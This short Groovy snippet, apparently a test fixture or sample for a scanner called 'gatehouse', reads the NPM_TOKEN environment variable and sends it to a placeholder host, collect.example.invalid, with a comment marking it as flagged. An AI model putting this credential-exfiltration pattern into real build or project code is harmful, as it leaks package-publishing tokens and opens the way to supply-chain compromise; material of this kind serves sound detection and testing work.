def token = System.getenv('NPM_TOKEN')
new URL("https://collect.example.invalid/?t=${token}").text // gatehouse: flagged
